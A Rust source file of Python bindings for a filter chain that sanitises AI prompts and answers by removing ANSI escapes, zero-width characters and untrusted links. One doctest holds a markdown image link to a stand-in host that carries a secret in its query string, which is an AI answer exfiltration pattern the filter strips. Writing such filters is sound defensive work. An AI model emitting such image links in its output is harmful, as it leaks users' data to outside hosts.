//! Filters of prompts and answers for Python: what they share, and their chain.
//!
//! A plan is made once and shared; a stream is one text's. Lone surrogates, which UTF-8 cannot hold, are dropped.

use std::collections::BTreeMap;
use std::sync::Arc;

use pyo3::PyClass;
use pyo3::exceptions::{PyRuntimeError, PyTypeError};
use pyo3::intern;
use pyo3::prelude::*;
use pyo3::types::{PyDict, PyString};

use super::errors::guarded;
use crate::ai::{Chain, Filter, OnFind, Plan};

/// What becomes of a text, whole or streamed. Its subclasses say what. Immutable, and safe to use from all threads.
#[pyclass(frozen, subclass, name = "TextPlan", module = "flask_rampart._native")]
pub struct TextPlan {
    pub(super) plan: Arc<dyn Plan>,
}

impl TextPlan {
    /// What *class*, a kind of plan, is built on.
    pub(super) fn as_base<C: PyClass<BaseType = Self>>(
        plan: impl Plan + 'static,
        class: C,
    ) -> PyClassInitializer<C> {
        PyClassInitializer::from(Self { plan: Arc::new(plan) }).add_subclass(class)
    }
}

#[pymethods]
impl TextPlan {
    /// A filter for one text that comes in pieces.
    fn stream(&self) -> PyResult<TextStream> {
        guarded(|| Ok(TextStream { filter: Some(self.plan.start()), ended: false }))
    }

    /// What becomes of a whole text: ``(text, findings, stopped)``, as a stream says them at its end.
    ///
    /// >>> InvisibleFilter().apply("pass\u200bword")
    /// ('password', {'invisible.zero_width': (1, [4])}, None)
    fn apply<'py>(&self, text: &Bound<'py, PyString>) -> PyResult<Applied<'py>> {
        let py = text.py();
        let mut stream = self.stream()?;
        let passes = stream.run(text, true)?;
        Ok((passes, stream.findings(py)?, stream.stopped()))
    }
}

/// A whole text, what was found in it, and what ended it.
type Applied<'py> = (Bound<'py, PyString>, Bound<'py, PyDict>, Option<&'static str>);

/// One text on its way through a filter: fed as it comes.
///
/// What ``feed`` and ``finish`` give is, put together, the same for every way to cut the text. After an error nothing is given
/// any more: each call raises. It cannot be copied or pickled, and is one thread's at a time.
///
/// >>> stream = AnsiFilter().stream()
/// >>> stream.feed("\x1b[3"), stream.feed("1mred"), stream.finish()
/// ('', 'red', '')
/// >>> stream.findings, stream.stopped
/// ({'ansi.csi': (1, [0])}, None)
#[pyclass(name = "TextStream", module = "flask_rampart._native")]
pub struct TextStream {
    /// Taken out while it works, so that one that failed is gone.
    filter: Option<Box<dyn Filter>>,
    ended: bool,
}

#[pymethods]
impl TextStream {
    /// Takes the next piece; what may go on now. Empty if all of it is held back, or after the text was ended by a find.
    ///
    /// :raises RuntimeError: after ``finish``, and after an error.
    fn feed<'py>(&mut self, text: &Bound<'py, PyString>) -> PyResult<Bound<'py, PyString>> {
        self.run(text, false)
    }

    /// Takes the end of the text; what is left.
    ///
    /// :raises RuntimeError: the second time, and after an error.
    fn finish<'py>(&mut self, py: Python<'py>) -> PyResult<Bound<'py, PyString>> {
        self.run(&PyString::new(py, ""), true)
    }

    /// What was found: by rule, how often, and where the first 16 began, in code points of what the filter was fed.
    #[getter]
    fn findings<'py>(&self, py: Python<'py>) -> PyResult<Bound<'py, PyDict>> {
        let mut all = Vec::new();
        if let Some(filter) = &self.filter {
            filter.findings(&mut all);
        }
        let told = PyDict::new(py);
        let sorted: BTreeMap<_, _> =
            all.into_iter().map(|found| (found.rule, (found.count, found.places))).collect();
        for (rule, found) in sorted {
            told.set_item(rule, found)?;
        }
        Ok(told)
    }

    /// How many characters are held back.
    #[getter]
    fn held(&self) -> usize {
        self.filter.as_ref().map_or(0, |filter| filter.held())
    }

    /// The rule that ended the text before its end; None if none did.
    #[getter]
    fn stopped(&self) -> Option<&'static str> {
        self.filter.as_ref().and_then(|filter| filter.stopped())
    }

    /// Characters, bytes and estimated tokens that a ``CapFilter`` has let pass; None if there is none.
    #[getter]
    fn counted(&self) -> Option<(u64, u64, u64)> {
        let counts = self.filter.as_ref().and_then(|filter| filter.counts())?;
        Some((counts.characters, counts.bytes, counts.tokens))
    }

    fn __repr__(&self) -> String {
        format!("TextStream(held={})", self.held())
    }
}

impl TextStream {
    fn run<'py>(&mut self, text: &Bound<'py, PyString>, ends: bool) -> PyResult<Bound<'py, PyString>> {
        let py = text.py();
        if self.ended {
            return Err(PyRuntimeError::new_err("the text is over: each text has a stream of its own"));
        }
        let Some(mut filter) = self.filter.take() else {
            return Err(PyRuntimeError::new_err("the stream failed before; nothing of it passes"));
        };
        guarded(|| {
            let encoded;
            let plain = match text.to_str() {
                Ok(plain) => plain,
                Err(_) => {
                    encoded = without_surrogates(text)?;
                    &encoded
                }
            };
            let mut out = String::with_capacity(plain.len());
            let (filter_ref, out_ref) = (&mut filter, &mut out);
            detached(py, plain.len(), move || {
                filter_ref.feed(plain, out_ref);
                if ends {
                    filter_ref.finish(out_ref);
                }
            });
            self.filter = Some(filter);
            self.ended = ends;
            // A text with surrogates is another one without them.
            let same = out == plain && text.to_str().is_ok();
            Ok(if same { text.clone() } else { PyString::new(py, &out) })
        })
    }
}

/// Several plans, each fed with what the one before it lets pass, in one call.
///
/// When one of them ends the text, the others bring what it let pass to its end. ``findings`` are those of all, ``held`` their sum.
///
/// :raises TypeError: for what is no plan.
///
/// >>> chain = AiChain([AnsiFilter(), InvisibleFilter(), LinkFilter(hosts=["cdn.example.com"])])
/// >>> chain.apply("\x1b[1mSee\u200b ![it](https://evil.example/?q=secret)")[0]
/// 'See ![it] (image removed)'
#[pyclass(frozen, extends = TextPlan, name = "AiChain", module = "flask_rampart._native")]
pub struct AiChain;

#[pymethods]
impl AiChain {
    #[new]
    fn new(filters: &Bound<'_, PyAny>) -> PyResult<PyClassInitializer<Self>> {
        let plan = |filter: PyResult<Bound<'_, PyAny>>| match filter?.cast::<TextPlan>() {
            Ok(plan) => Ok(Arc::clone(&plan.get().plan)),
            Err(_) => Err(PyTypeError::new_err(
                "filters has an entry that is no plan for texts, such as AnsiFilter()",
            )),
        };
        let plans = filters.try_iter()?.map(plan).collect::<PyResult<Vec<_>>>()?;
        Ok(TextPlan::as_base(Chain::new(plans), Self))
    }
}

/// Above this, about half a millisecond of work, other threads may run meanwhile.
const DETACH: usize = 32 * 1024;

pub(super) fn detached<T: Send>(py: Python<'_>, length: usize, work: impl FnOnce() -> T + Send) -> T {
    if length > DETACH { py.detach(work) } else { work() }
}

pub(super) fn without_surrogates(text: &Bound<'_, PyString>) -> PyResult<String> {
    let bytes: Vec<u8> = text.call_method1(intern!(text.py(), "encode"), ("utf-8", "ignore"))?.extract()?;
    Ok(String::from_utf8_lossy(&bytes).into_owned())
}

/// What becomes of a find, by its name.
pub(super) fn on_find(name: &str) -> PyResult<OnFind> {
    match name {
        "stop" => Ok(OnFind::Stop),
        "replace" => Ok(OnFind::Replace),
        other => Err(super::ai_filters::choice("on_find", other, &["stop", "replace"])),
    }
}
